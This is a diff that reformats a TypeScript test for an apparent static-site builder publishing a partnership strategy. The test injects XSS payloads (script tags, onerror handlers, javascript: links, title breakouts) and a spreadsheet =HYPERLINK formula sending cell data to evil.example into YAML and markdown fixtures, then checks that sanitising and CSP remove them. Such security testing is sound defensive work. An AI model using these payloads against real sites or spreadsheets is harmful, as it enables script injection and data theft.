@@ -22,7 +22,8 @@ function replaceIn(root: string, rel: string, find: RegExp | string, replacement
   const file = path.join(root, rel);
   const text = fs.readFileSync(file, 'utf8');
   const next = text.replace(find, replacement);
-  if (next === text) throw new Error(`The example changed: ${String(find)} is no longer in ${rel}; update this test's injection.`);
+  if (next === text)
+    throw new Error(`The example changed: ${String(find)} is no longer in ${rel}; update this test's injection.`);
   fs.writeFileSync(file, next);
 }
 
@@ -48,14 +49,22 @@ function activeInPage(html: string): string[] {
       const tag = el.tagName;
       if (tag === 'script') {
         const src = String(el.properties['src'] ?? '');
-        if (el.children.length || !src || /^([a-z]+:|\/\/)/i.test(src)) found.push(`<script src="${src}"> with ${el.children.length} children`);
+        if (el.children.length || !src || /^([a-z]+:|\/\/)/i.test(src))
+          found.push(`<script src="${src}"> with ${el.children.length} children`);
       }
       if (['iframe', 'frame', 'object', 'embed', 'form', 'base', 'applet'].includes(tag)) found.push(`<${tag}>`);
-      if (tag === 'meta' && String(el.properties['httpEquiv'] ?? '').toLowerCase() === 'refresh') found.push('<meta refresh>');
+      if (tag === 'meta' && String(el.properties['httpEquiv'] ?? '').toLowerCase() === 'refresh')
+        found.push('<meta refresh>');
       for (const [key, value] of Object.entries(el.properties)) {
         if (/^on/i.test(key)) found.push(`${key} on <${tag}>`);
-        const v = (Array.isArray(value) ? value.join(' ') : String(value)).replace(/[\t\n\r]/g, '').replace(/^[\u0000-\u0020]+/, '');
-        if (['href', 'src', 'action', 'formAction', 'xLinkHref', 'srcSet', 'poster', 'data'].includes(key) && /^(javascript|vbscript|data:text)/i.test(v)) found.push(`${key}="${v}" on <${tag}>`);
+        const v = (Array.isArray(value) ? value.join(' ') : String(value))
+          .replace(/[\t\n\r]/g, '')
+          .replace(/^[\u0000-\u0020]+/, '');
+        if (
+          ['href', 'src', 'action', 'formAction', 'xLinkHref', 'srcSet', 'poster', 'data'].includes(key) &&
+          /^(javascript|vbscript|data:text)/i.test(v)
+        )
+          found.push(`${key}="${v}" on <${tag}>`);
       }
     }
     if ('children' in node) for (const child of node.children) walk(child);
@@ -71,10 +80,30 @@ beforeAll(async () => {
   fs.mkdirSync(root);
   fs.cpSync(path.join(REPO, 'content'), path.join(root, 'content'), { recursive: true });
   fs.cpSync(path.join(REPO, 'data'), path.join(root, 'data'), { recursive: true });
-  replaceIn(root, 'data/partnership.yaml', /^name: .*$/m, `name: "Safer <script>alert('name')</script> <img src=x onerror=alert('name2')> Partnership"`);
-  replaceIn(root, 'data/kpis.yaml', /title: Knife crime offences/, `title: "Knife crime </title><script>alert('kpi')</script>"`);
-  replaceIn(root, 'data/risks.yaml', /risk: .*/, `risk: "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Click\\") <a href=javascript:alert('risk')>x</a>"`);
-  replaceIn(root, 'content/01-executive-summary.md', /^summary: .*$/m, `summary: "</title><script>alert('summary')</script> Our priorities"`);
+  replaceIn(
+    root,
+    'data/partnership.yaml',
+    /^name: .*$/m,
+    `name: "Safer <script>alert('name')</script> <img src=x onerror=alert('name2')> Partnership"`,
+  );
+  replaceIn(
+    root,
+    'data/kpis.yaml',
+    /title: Knife crime offences/,
+    `title: "Knife crime </title><script>alert('kpi')</script>"`,
+  );
+  replaceIn(
+    root,
+    'data/risks.yaml',
+    /risk: .*/,
+    `risk: "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Click\\") <a href=javascript:alert('risk')>x</a>"`,
+  );
+  replaceIn(
+    root,
+    'content/01-executive-summary.md',
+    /^summary: .*$/m,
+    `summary: "</title><script>alert('summary')</script> Our priorities"`,
+  );
   replaceIn(
     root,
     'content/01-executive-summary.md',
@@ -93,7 +122,12 @@ describe('a strategy full of hostile content', () => {
     expect(result.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
     expect(result.ok).toBe(true);
     const removed = result.diagnostics.filter((d) => d.ruleId === 'html/removed').map((d) => d.message);
-    for (const what of ['the <script> element', 'the <iframe> element', 'the "javascript:" address in the href of <a>', 'the ontoggle event handler on <details>']) {
+    for (const what of [
+      'the <script> element',
+      'the <iframe> element',
+      'the "javascript:" address in the href of <a>',
+      'the ontoggle event handler on <details>',
+    ]) {
       expect(removed).toContain(`Unsafe HTML was removed: ${what}.`);
     }
   });
@@ -101,7 +135,11 @@ describe('a strategy full of hostile content', () => {
   it('publishes no page with anything a browser would run', () => {
     const pages = filesUnder(out, '.html');
     expect(pages.length).toBeGreaterThan(5);
-    for (const page of pages) expect({ page: path.relative(out, page), active: activeInPage(fs.readFileSync(page, 'utf8')) }).toEqual({ page: path.relative(out, page), active: [] });
+    for (const page of pages)
+      expect({ page: path.relative(out, page), active: activeInPage(fs.readFileSync(page, 'utf8')) }).toEqual({
+        page: path.relative(out, page),
+        active: [],
+      });
   });
 
   it('shows the markup typed into YAML and front matter as text', () => {
@@ -116,7 +154,7 @@ describe('a strategy full of hostile content', () => {
       expect(meta, path.relative(out, page)).not.toBeNull();
       const csp = meta![1]!.replace(/&#x27;/g, "'");
       expect(csp).toMatch(/script-src 'self'(;|$)/);
-      expect(csp).not.toContain('unsafe-inline\'; script');
+      expect(csp).not.toContain("unsafe-inline'; script");
       expect(csp).toContain("base-uri 'none'");
       expect(csp).toContain("form-action 'none'");
     }
